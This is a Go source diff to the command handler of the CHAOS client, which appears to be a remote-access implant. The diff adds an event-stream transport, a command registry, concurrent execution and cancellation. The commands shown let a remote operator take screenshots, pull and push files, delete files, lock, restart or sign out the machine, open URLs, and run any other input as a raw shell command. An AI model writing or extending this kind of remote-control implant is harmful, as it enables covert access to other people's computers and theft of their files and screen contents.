@@ -1,19 +1,35 @@
 package handler
 
 import (
+	"context"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"github.com/tiagorlampert/CHAOS/client/app/entities"
 	"github.com/tiagorlampert/CHAOS/client/app/gateway"
+	"github.com/tiagorlampert/CHAOS/client/app/handler/commands"
 	"github.com/tiagorlampert/CHAOS/client/app/services"
+	"github.com/tiagorlampert/CHAOS/client/app/shared/deadline"
 	"github.com/tiagorlampert/CHAOS/client/app/shared/environment"
 	"github.com/tiagorlampert/CHAOS/client/app/utilities/encode"
+	"github.com/tiagorlampert/CHAOS/client/app/utilities/id"
 	"log"
 	"net/http"
 	"strings"
+	"sync"
 	"time"
 )
 
+// streamWorkers bounds how many commands received over the event stream run
+// concurrently, so e.g. a getos and a screenshot can execute in parallel
+// without an unbounded goroutine per command.
+const streamWorkers = 4
+
+// errStreamClosed is returned by handleStream when the server closes the
+// event stream (as opposed to failing to open it), so HandleCommand knows to
+// fall back to polling instead of treating HandleCommand as done for good.
+var errStreamClosed = errors.New("event stream closed")
+
 type Handler struct {
 	Configuration *environment.Configuration
 	Gateway       gateway.Gateway
@@ -22,6 +38,12 @@ type Handler struct {
 	Connected     bool
 	DoingRequest  bool
 	CommandUrl    string
+	ProgressUrl   string
+	Registry      *commands.Registry
+
+	// cancels maps an in-flight command's UUID to the context.CancelFunc that
+	// stops it, so a later "cancel <cmd-id>" command can reach in and abort it.
+	cancels sync.Map // map[string]context.CancelFunc
 }
 
 func NewHandler(
@@ -30,13 +52,37 @@ func NewHandler(
 	services *services.Services,
 	macAddress string,
 ) *Handler {
-	return &Handler{
+	h := &Handler{
 		Configuration: configuration,
 		Gateway:       gateway,
 		Services:      services,
 		MacAddress:    macAddress,
 		CommandUrl:    fmt.Sprint(configuration.Server.URL, configuration.Server.Command),
+		ProgressUrl:   fmt.Sprint(configuration.Server.URL, configuration.Server.Progress),
 	}
+	h.Registry = defaultRegistry()
+	return h
+}
+
+// defaultRegistry registers every built-in command. Third-party commands can
+// be added the same way, e.g. behind a build tag in a separate file that
+// appends to the returned Registry.
+func defaultRegistry() *commands.Registry {
+	registry := commands.NewRegistry()
+	registry.Register(commands.GetOS{})
+	registry.Register(commands.Screenshot{})
+	registry.Register(commands.Restart{})
+	registry.Register(commands.Shutdown{})
+	registry.Register(commands.Lock{})
+	registry.Register(commands.SignOut{})
+	registry.Register(commands.Explore{})
+	registry.Register(commands.Download{})
+	registry.Register(commands.DownloadZip{})
+	registry.Register(commands.Delete{})
+	registry.Register(commands.Upload{})
+	registry.Register(commands.OpenURL{})
+	registry.Register(commands.Cancel{})
+	return registry
 }
 
 func (h *Handler) HandleServer() {
@@ -68,7 +114,7 @@ func (h *Handler) ServerIsAvailable() bool {
 }
 
 func (h *Handler) SendDeviceSpecs() error {
-	deviceSpecs, err := h.Services.Information.LoadDeviceSpecs()
+	deviceSpecs, err := h.Services.Information.LoadDeviceSpecs(context.Background())
 	if err != nil {
 		return err
 	}
@@ -87,7 +133,30 @@ func (h *Handler) SendDeviceSpecs() error {
 	return nil
 }
 
+// HandleCommand dispatches incoming commands for as long as the client runs.
+// It prefers the persistent event stream configured via
+// Configuration.Server.Transport, falling back to the legacy polling loop
+// once the stream can't be opened (e.g. the server doesn't support
+// streaming) or is closed.
 func (h *Handler) HandleCommand() {
+	if h.Configuration.Server.Transport == environment.TransportStream {
+		err := h.handleStream()
+		var unsupported *gateway.ErrStreamUnsupported
+		switch {
+		case errors.As(err, &unsupported):
+			// Server doesn't speak the stream protocol at all; fall back
+			// silently, same as before streaming existed.
+		case errors.Is(err, errStreamClosed):
+			log.Println("event stream closed, falling back to polling")
+		default:
+			log.Println("event stream failed, falling back to polling:", err)
+		}
+	}
+	h.handlePoll()
+}
+
+// handlePoll is the original GET-every-2-seconds transport.
+func (h *Handler) handlePoll() {
 	for {
 		time.Sleep(2 * time.Second)
 		if h.DoingRequest || !h.Connected {
@@ -99,124 +168,193 @@ func (h *Handler) HandleCommand() {
 			h.DoingRequest = true
 
 			requestCommand, err := h.ReceiveCommand()
+			if err != nil {
+				log.Println(err)
+				return
+			}
 			if len(strings.TrimSpace(requestCommand.Request)) == 0 {
 				return
 			}
 
-			var response []byte
-			var hasErr bool
-
-			commandParts := strings.Split(requestCommand.Request, " ")
-			switch strings.ToLower(strings.TrimSpace(commandParts[0])) {
-			case "getos":
-				deviceSpecs, err := h.Services.Information.LoadDeviceSpecs()
-				if err != nil {
-					hasErr = true
-					response = encode.StringToByte(err.Error())
-					break
-				}
-				response = encode.StringToByte(encode.PrettyJson(deviceSpecs))
-				break
-			case "screenshot":
-				screenshot, err := h.Services.Screenshot.TakeScreenshot()
-				if err != nil {
-					hasErr = true
-					response = encode.StringToByte(err.Error())
-					break
-				}
-				response = screenshot
-				break
-			case "restart":
-				if err := h.Services.OS.Restart(); err != nil {
-					hasErr = true
-					response = encode.StringToByte(err.Error())
-				}
-				break
-			case "shutdown":
-				if err := h.Services.OS.Shutdown(); err != nil {
-					hasErr = true
-					response = encode.StringToByte(err.Error())
-				}
-				break
-			case "lock":
-				if err := h.Services.OS.Lock(); err != nil {
-					hasErr = true
-					response = encode.StringToByte(err.Error())
-				}
-				break
-			case "sign-out":
-				if err := h.Services.OS.SignOut(); err != nil {
-					hasErr = true
-					response = encode.StringToByte(err.Error())
-				}
-				break
-			case "explore":
-				fileExplorer, err := h.Services.Explorer.ExploreDirectory(commandParts[1])
-				if err != nil {
-					response = encode.StringToByte(err.Error())
-					hasErr = true
-					break
-				}
-				explorerBytes, _ := json.Marshal(fileExplorer)
-				response = explorerBytes
-				break
-			case "download":
-				filepath := strings.TrimSpace(strings.ReplaceAll(requestCommand.Request, "download", ""))
-				res, err := h.Services.Upload.UploadFile(filepath)
-				if err != nil {
-					response = encode.StringToByte(err.Error())
-					hasErr = true
-					break
-				}
-				response = res
-				break
-			case "delete":
-				filepath := strings.TrimSpace(strings.ReplaceAll(requestCommand.Request, "delete", ""))
-				err := h.Services.Delete.DeleteFile(filepath)
-				if err != nil {
-					response = encode.StringToByte(err.Error())
-					hasErr = true
-					break
-				}
-				break
-			case "upload":
-				filepath := strings.TrimSpace(strings.ReplaceAll(requestCommand.Request, "upload", ""))
-				res, err := h.Services.Download.DownloadFile(filepath)
-				if err != nil {
-					response = encode.StringToByte(err.Error())
-					hasErr = true
-					break
-				}
-				response = res
-				break
-			case "open-url":
-				err := h.Services.URL.OpenURL(commandParts[1])
-				if err != nil {
-					response = encode.StringToByte(err.Error())
-					hasErr = true
-					break
-				}
-				break
-			default:
-				response = encode.StringToByte(
-					h.Services.Terminal.Run(requestCommand.Request, h.Configuration.Connection.ContextDeadline))
-			}
+			h.runCommand(requestCommand)
+		}()
+	}
+}
 
-			body, err := json.Marshal(entities.Payload{
-				MacAddress: h.MacAddress,
-				Response:   response,
-				HasError:   hasErr,
-			})
-			if err != nil {
-				return
-			}
+// handleStream subscribes once to Configuration.Server.Events and dispatches
+// every payload it receives to a bounded worker pool, so independent
+// commands (e.g. getos and screenshot) can run concurrently. It returns once
+// the stream fails to open or is closed by the server: *gateway.
+// ErrStreamUnsupported signals the server doesn't speak the stream protocol
+// at all, while errStreamClosed signals a stream that opened and later
+// closed. Either way the caller falls back to polling. It waits for every
+// in-flight runCommand to finish before returning, so a stream drop can't cut
+// a command off mid-execution.
+func (h *Handler) handleStream() error {
+	url := fmt.Sprint(h.Configuration.Server.URL, h.Configuration.Server.Events)
+	stream, err := h.Gateway.Stream(url)
+	if err != nil {
+		return err
+	}
+	h.Connected = true
 
-			responseCommand, err := h.Gateway.NewRequest(http.MethodPut, h.CommandUrl, body)
-			if err != nil || responseCommand.StatusCode != http.StatusOK {
-				log.Println(err)
+	jobs := make(chan entities.Payload)
+	var workers sync.WaitGroup
+	for i := 0; i < streamWorkers; i++ {
+		workers.Add(1)
+		go func() {
+			defer workers.Done()
+			for requestCommand := range jobs {
+				h.runCommand(requestCommand)
 			}
 		}()
 	}
+
+	for requestCommand := range stream {
+		if len(strings.TrimSpace(requestCommand.Request)) == 0 {
+			continue
+		}
+		jobs <- requestCommand
+	}
+	close(jobs)
+	workers.Wait()
+	return errStreamClosed
+}
+
+// runCommand honors the UUID the server assigned requestCommand (minting one
+// itself only if the server didn't, e.g. over the legacy poll transport),
+// arms a deadline/cancel pair for it, dispatches it, and reports the result
+// back to the server tagged with that same UUID. The cancel func is
+// registered under the UUID for the duration of the call, so a concurrent
+// "cancel <cmd-id>" command can abort it early - which requires the operator
+// to already know the id, so it's announced before the command runs instead
+// of only being revealed in the final result.
+func (h *Handler) runCommand(requestCommand entities.Payload) {
+	commandID := requestCommand.CommandID
+	if commandID == "" {
+		commandID = id.New()
+	}
+	h.announceCommand(commandID)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	h.cancels.Store(commandID, cancel)
+	defer func() {
+		cancel()
+		h.cancels.Delete(commandID)
+	}()
+
+	timer := deadline.New()
+	defer timer.Cancel()
+	if d := h.Configuration.Connection.ContextDeadline; d > 0 {
+		timer.SetDeadline(time.Now().Add(d))
+	}
+	go func() {
+		select {
+		case <-timer.Done():
+			cancel()
+		case <-ctx.Done():
+		}
+	}()
+
+	response, hasErr := h.dispatchCommand(ctx, requestCommand)
+	h.sendResult(commandID, response, hasErr)
+}
+
+// dispatchCommand looks requestCommand's first word up in the Registry and
+// runs it; anything not registered falls back to a raw shell command, same
+// as before the registry existed. ctx is cancelled when the command times
+// out (Configuration.Connection.ContextDeadline) or is cancelled explicitly
+// via "cancel <cmd-id>".
+func (h *Handler) dispatchCommand(ctx context.Context, requestCommand entities.Payload) (response []byte, hasErr bool) {
+	tokens, err := commands.Tokenize(requestCommand.Request)
+	if err != nil {
+		return encode.StringToByte(err.Error()), true
+	}
+	if len(tokens) == 0 {
+		return nil, false
+	}
+
+	cmd, ok := h.Registry.Lookup(tokens[0])
+	if !ok {
+		return encode.StringToByte(h.Services.Terminal.Run(ctx, requestCommand.Request)), false
+	}
+
+	args, err := cmd.Parse(tokens[1:])
+	if err != nil {
+		return encode.StringToByte(err.Error()), true
+	}
+
+	res, err := cmd.Run(ctx, args, &commands.Deps{
+		Services:   h.Services,
+		MacAddress: h.MacAddress,
+		OnProgress: h.reportProgress,
+		Cancel:     h.cancelCommand,
+	})
+	if err != nil {
+		return encode.StringToByte(err.Error()), true
+	}
+	return res.Body, false
+}
+
+// cancelCommand stops the in-flight command commandID was assigned by
+// runCommand, reporting whether one was actually found running.
+func (h *Handler) cancelCommand(commandID string) bool {
+	cancelFunc, ok := h.cancels.Load(commandID)
+	if !ok {
+		return false
+	}
+	cancelFunc.(context.CancelFunc)()
+	h.cancels.Delete(commandID)
+	return true
+}
+
+// reportProgress pushes a chunked transfer's progress to the server so the
+// operator UI can show bytes transferred and ETA while it's still running.
+func (h *Handler) reportProgress(p entities.Progress) {
+	body, err := json.Marshal(p)
+	if err != nil {
+		return
+	}
+	if _, err := h.Gateway.NewRequest(http.MethodPut, h.ProgressUrl, body); err != nil {
+		log.Println(err)
+	}
+}
+
+// announceCommand tells the server which UUID this dispatch is running
+// under before the command starts, so a "cancel <cmd-id>" issued while it's
+// still in flight has an id to reach it by instead of only learning it from
+// sendResult once the command has already finished.
+func (h *Handler) announceCommand(commandID string) {
+	body, err := json.Marshal(entities.Payload{
+		MacAddress: h.MacAddress,
+		CommandID:  commandID,
+	})
+	if err != nil {
+		return
+	}
+	if _, err := h.Gateway.NewRequest(http.MethodPut, h.CommandUrl, body); err != nil {
+		log.Println(err)
+	}
+}
+
+// sendResult reports a dispatched command's outcome back to the server,
+// tagged with commandID so the operator can correlate it (and cancel it,
+// while it was still running).
+func (h *Handler) sendResult(commandID string, response []byte, hasErr bool) {
+	body, err := json.Marshal(entities.Payload{
+		MacAddress: h.MacAddress,
+		Response:   response,
+		HasError:   hasErr,
+		CommandID:  commandID,
+	})
+	if err != nil {
+		return
+	}
+
+	responseCommand, err := h.Gateway.NewRequest(http.MethodPut, h.CommandUrl, body)
+	if err != nil || responseCommand.StatusCode != http.StatusOK {
+		log.Println(err)
+	}
 }
 
 func (h *Handler) ReceiveCommand() (entities.Payload, error) {